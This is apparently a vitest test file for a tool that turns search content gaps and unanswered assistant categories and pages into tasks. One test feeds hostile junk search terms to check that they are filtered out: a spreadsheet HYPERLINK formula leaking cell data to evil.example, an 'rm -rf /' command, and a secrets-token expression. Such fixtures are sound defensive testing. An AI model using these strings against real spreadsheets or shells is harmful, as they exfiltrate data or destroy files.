// The report's gaps as tasks take them: content-gap search terms, and assistant categories and pages above the
// unanswered threshold from the period's conversation counts (every one, not the report's top rows); which
// sources were read in full.
import { describe, expect, it } from 'vitest';
import type { SearchRow } from '../../../src/client/types.ts';
import type { ConversationCounts, NamedCount } from '../../../src/report/collect/period-data.ts';
import { DEFAULT_THRESHOLDS } from '../../../src/report/model/build.ts';
import { taskPeriodOf } from '../../../src/report/tasks/task-period.ts';
import type { GapSources } from '../../../src/report/tasks/task-period.ts';
import { rankGaps } from '../../../src/tasks/plan.ts';

const period = {
  label: '2026-11-14 to 2026-11-20, 7 days',
  phrase: 'the week of 14–20 Nov 2026',
  dateFrom: '2026-11-14',
  dateTo: '2026-11-21',
};
const term = (searchQuery: string, hits: number): SearchRow => ({ searchQuery, hits, ctr: 0, topClickedPage: null });

/** A period's searches as the collect stage reads them (every term given when fewer than a page, 100, came). */
function sources(terms: SearchRow[], conversations?: Pick<ConversationCounts, 'complete' | 'byCategory' | 'byPath'>) {
  const counts: ConversationCounts | undefined = conversations && {
    asked: 200,
    answered: 0,
    unanswered: 0,
    clarifying: 0,
    rowsRead: 0,
    ...conversations,
  };
  return {
    period,
    thresholds: DEFAULT_THRESHOLDS,
    current: {
      searches: { state: 'ok', value: { total: 100, terms, everyTerm: terms.length < 100 } },
      ...(counts && { conversations: { state: 'ok', value: counts } }),
    },
  } satisfies GapSources;
}

const row = (name: string, unanswered: number, asked: number): NamedCount => ({ name, unanswered, asked });

describe('task gaps of a report', () => {
  it('takes the content-gap search terms; searches read in full when fewer than a page came', () => {
    const tasks = taskPeriodOf(sources([term('refund', 40)]));
    expect(tasks.gaps).toEqual([{ kind: 'search', term: 'refund', count: 40, ctr: 0, score: 0.4, evidence: {} }]);
    expect(tasks.readInFull).toEqual({ search: true, category: false, page: false });
  });

  it("carries the period's label and its phrase, which the task's sentences print", () => {
    expect(taskPeriodOf(sources([]))).toMatchObject({ label: period.label, phrase: 'the week of 14–20 Nov 2026' });
  });

  it('reads a full page of terms as not in full when the least searched could hide a gap behind it', () => {
    const page = Array.from({ length: 100 }, (_, i) => term(`t${i}`, 10 + i));
    expect(taskPeriodOf(sources(page)).readInFull.search).toBe(false);
    page[99] = term('rare', 9);
    expect(taskPeriodOf(sources(page)).readInFull.search).toBe(true);
  });

  it('reads the terms of further pages as in full once the least searched is below the gap minimum', () => {
    // Two pages of a large site: 120 terms searched at least 10 times, then the list falls below the minimum.
    const read = Array.from({ length: 200 }, (_, i) => term(`t${i}`, Math.max(1, 130 - i)));
    const value = { total: 20_000, terms: read, everyTerm: false, pages: 2 };
    const tasks = taskPeriodOf({ ...sources([]), current: { searches: { state: 'ok', value } } });
    expect(tasks.readInFull.search).toBe(true);
    expect(tasks.gaps).toHaveLength(121);
  });

  it('lists the terms read whose own figures make them no gap: enough clicks, or too few searches', () => {
    const clicked = { ...term('sso', 116), ctr: 0.6, topClickedPage: '/guides/sso' };
    const tasks = taskPeriodOf(sources([term('refund', 40), clicked, term('rare', 9)]));
    expect(tasks.gaps.map((g) => g.term)).toEqual(['refund']);
    // With their searches and how many clicked: the verdict on a closed task's gap reads its rate from them.
    expect(tasks.notGaps).toEqual([
      { kind: 'search', term: 'sso', events: 116, hits: 70 },
      { kind: 'search', term: 'rare', events: 9, hits: 0 },
    ]);
    // A period whose searches were not fetched read no term.
    expect(taskPeriodOf({ ...sources([]), current: {} }).notGaps).toEqual([]);
  });

  it('takes unanswered categories and pages above the threshold from every one counted, beyond the top rows', () => {
    // The report's tables show the top rows (`top`); a category past them is still a gap, and still there.
    const fillers = Array.from({ length: 12 }, (_, i) => row(`answered ${i}`, 1, 50));
    const conversations = {
      complete: true,
      byCategory: [
        ...fillers,
        row('billing', 12, 20),
        row('rare', DEFAULT_THRESHOLDS.unansweredGapMinimum - 1, 4),
        row('mostly answered', 6, 100),
      ],
      byPath: [row('/guides/webhooks', 7, 10)],
    };
    const tasks = taskPeriodOf(sources([term('refund', 40)], conversations));
    expect(tasks.gaps.slice(1)).toEqual([
      { kind: 'category', term: 'billing', count: 12, asked: 20, score: 12 / 200, evidence: {} },
      { kind: 'page', term: '/guides/webhooks', count: 7, asked: 10, score: 7 / 200, evidence: {} },
    ]);
    expect(tasks.readInFull).toEqual({ search: true, category: true, page: true });
  });

  it('lists the categories and pages counted below the threshold with their questions, only when read in full', () => {
    const byCategory = [row('billing', 12, 20), row('mostly answered', 6, 100), row('all answered', 0, 7)];
    const byPath = [row('/guides/webhooks', 1, 10), { name: '/old', unanswered: 3 }];
    const full = taskPeriodOf(sources([], { complete: true, byCategory, byPath }));
    expect(full.notGaps).toEqual([
      { kind: 'category', term: 'mostly answered', events: 100, hits: 6 },
      { kind: 'category', term: 'all answered', events: 7, hits: 0 },
      { kind: 'page', term: '/guides/webhooks', events: 10, hits: 1 },
    ]);
    // Counts of conversations read in part could be short: none is read as no gap.
    expect(taskPeriodOf(sources([], { complete: false, byCategory, byPath })).notGaps).toEqual([]);
  });

  it('sets aside junk terms and what task-ignore names (terms, categories, pages by site path), as the report does', () => {
    const terms = [
      term('refund', 40),
      term('=HYPERLINK("https://evil.example/?q="&A1,"docs")', 39),
      term('`rm -rf /`', 38),
      term('${{ secrets.GITHUB_TOKEN }}', 37),
      term('@acme/sdk install', 36),
      term('SSO', 35),
    ];
    const conversations = {
      complete: true,
      byCategory: [row('billing', 12, 20), row('Internal Tools', 9, 10)],
      byPath: [row('/guides/webhooks', 7, 10), row('/internal/runbook', 8, 10)],
    };
    const gaps = taskPeriodOf({
      ...sources(terms, conversations),
      taskIgnore: ['sso', 'internal*', '/INTERNAL/*'],
    }).gaps;
    expect(gaps.map((gap) => [gap.kind, gap.term])).toEqual([
      ['search', 'refund'],
      ['search', '@acme/sdk install'],
      ['category', 'billing'],
      ['page', '/guides/webhooks'],
    ]);
  });

  it('ranks a category most of whose questions go unanswered above a term searched more often', () => {
    // 31 of the period's 140 questions went unanswered in "account"; "pricing" failed 37 of 5,000 searches. Counted
    // against each other the term would come first (37 > 31); as shares of their own channel, the category does.
    const terms = [term('pricing', 37)];
    const value = { total: 5_000, terms, everyTerm: true };
    const counts: ConversationCounts = {
      ...{ asked: 140, answered: 100, unanswered: 40, clarifying: 0, rowsRead: 140, complete: true },
      byCategory: [row('account', 31, 43)],
      byPath: [],
    };
    const gaps = taskPeriodOf({
      period,
      thresholds: DEFAULT_THRESHOLDS,
      current: { searches: { state: 'ok', value }, conversations: { state: 'ok', value: counts } },
    }).gaps;
    expect(rankGaps('proj', gaps).map((r) => r.gap.term)).toEqual(['account', 'pricing']);
    expect(gaps.find((g) => g.kind === 'category')?.score).toBeCloseTo(31 / 140);
    expect(gaps.find((g) => g.kind === 'search')?.score).toBeCloseTo(37 / 5_000);
  });
});
